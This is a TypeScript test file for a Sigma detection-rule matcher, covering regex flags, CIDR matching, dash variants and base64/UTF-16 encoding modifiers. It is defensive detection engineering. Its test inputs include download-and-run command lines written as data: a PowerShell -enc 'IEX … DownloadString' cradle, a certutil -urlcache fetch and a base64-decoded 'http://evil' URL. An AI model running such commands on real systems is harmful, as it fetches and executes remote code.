import assert from 'node:assert/strict';
import { test } from 'node:test';
import { base64Offsets, windashVariants } from '../../../src/detections/value-encodings';
import { matcher } from './sigma-fixtures';

const b64 = (s: string, enc: BufferEncoding = 'utf8') => Buffer.from(s, enc).toString('base64');

test('re: case-sensitive by default, matched anywhere, with i, m and s flags', () => {
  const m = matcher(`
sel:
    CommandLine|re: '\\s-H\\s'
condition: sel`);
  assert.equal(m({ CommandLine: 'curl -H "User-Agent: x"' }), true);
  assert.equal(m({ CommandLine: 'curl -h "User-Agent: x"' }), false);
  const i = matcher(`
sel:
    TargetFilename|re|i: '^C:\\\\Users\\\\[^\\\\]+\\\\NTUSER\\.DAT$'
condition: sel`);
  assert.equal(i({ TargetFilename: 'c:\\users\\bob\\ntuser.dat' }), true);
  assert.equal(i({ TargetFilename: 'c:\\users\\bob\\x\\ntuser.dat' }), false);
  const ms = matcher(`
sel:
    Body|re|m|s: '^second.line$'
condition: sel`);
  assert.equal(ms({ Body: 'first\nsecond\nline' }), true);
  const plain = matcher(`
sel:
    Body|re: '^second.line$'
condition: sel`);
  assert.equal(plain({ Body: 'first\nsecond\nline' }), false);
});

test('re: PCRE inline flags and anchors are honoured, not misread', () => {
  const inline = matcher(`
sel:
    Body|re: '(?i)^powershell'
condition: sel`);
  assert.equal(inline({ Body: 'PowerShell -nop' }), true);
  const anchor = matcher(`
sel:
    Body|re: '\\Aabc\\z'
condition: sel`);
  assert.equal(anchor({ Body: 'abc' }), true);
  assert.equal(anchor({ Body: 'Aabcz' }), false, 'a JavaScript RegExp would read \\A and \\z as plain letters');
});

test('cidr matches IPv4 and IPv6 networks (and IPv4-mapped IPv6 addresses)', () => {
  const m = matcher(`
sel:
    DestinationIp|cidr:
        - 10.0.0.0/8
        - 192.168.1.0/24
        - 'fd00::/8'
condition: sel`);
  assert.equal(m({ DestinationIp: '10.20.30.40' }), true);
  assert.equal(m({ DestinationIp: '192.168.1.255' }), true);
  assert.equal(m({ DestinationIp: '192.168.2.1' }), false);
  assert.equal(m({ DestinationIp: '::ffff:10.1.1.1' }), true);
  assert.equal(m({ DestinationIp: 'fd12:3456::1' }), true);
  assert.equal(m({ DestinationIp: 'fe80::1' }), false);
  assert.equal(m({ DestinationIp: 'not-an-ip' }), false);
  assert.equal(m({ DestinationIp: '11.0.0.1' }), false);
});

test('windash: every permutation of - / en dash, em dash and horizontal bar', () => {
  assert.deepEqual(windashVariants('-f'), ['-f', '/f', '\u2013f', '\u2014f', '\u2015f']);
  const m = matcher(`
sel:
    CommandLine|windash|contains: ' -urlcache '
condition: sel`);
  for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) assert.equal(m({ CommandLine: `certutil ${dash}urlcache -f x` }), true, dash);
  assert.equal(m({ CommandLine: 'certutil urlcache -f x' }), false);
});

test('base64 encodes the value; base64offset finds it at any offset inside encoded text', () => {
  const m = matcher(`
sel:
    CommandLine|base64offset|contains: 'http://'
condition: sel`);
  for (const prefix of ['', 'a', 'ab', 'abc']) {
    assert.equal(m({ CommandLine: `echo ${b64(`${prefix}http://evil/x`)} | base64 -d` }), true, `offset ${prefix.length}`);
  }
  assert.equal(m({ CommandLine: `echo ${b64('ftp://evil/x')}` }), false);
  // The three variants SigmaHQ tooling produces for 'http://'.
  assert.deepEqual(
    base64Offsets({ text: 'http://', binary: false }).map((v) => v.text),
    ['aHR0cDovL', 'h0dHA6Ly', 'odHRwOi8v'],
  );
  const exact = matcher(`
sel:
    Data|base64: 'hello'
condition: sel`);
  assert.equal(exact({ Data: 'aGVsbG8=' }), true);
  assert.equal(exact({ Data: 'AGVSBG8=' }), false, 'base64 text is matched case-sensitively');
});

test('wide/utf16le + base64offset finds a PowerShell -EncodedCommand payload', () => {
  const m = matcher(`
sel:
    CommandLine|wide|base64offset|contains: 'IEX ('
condition: sel`);
  for (const prefix of ['', 'x', 'xy']) {
    const payload = b64(`${prefix}IEX (New-Object Net.WebClient).DownloadString('http://x')`, 'utf16le');
    assert.equal(m({ CommandLine: `powershell.exe -enc ${payload}` }), true, `offset ${prefix.length}`);
  }
  assert.equal(m({ CommandLine: `powershell.exe -enc ${b64('Get-Date', 'utf16le')}` }), false);
});

test('utf16be and utf16 (with byte order mark) encode before base64', () => {
  const be = matcher(`
sel:
    Data|utf16be|base64: 'ab'
condition: sel`);
  assert.equal(be({ Data: Buffer.from([0, 0x61, 0, 0x62]).toString('base64') }), true);
  const bom = matcher(`
sel:
    Data|utf16|base64: 'ab'
condition: sel`);
  assert.equal(bom({ Data: Buffer.from([0xff, 0xfe, 0x61, 0, 0x62, 0]).toString('base64') }), true);
});
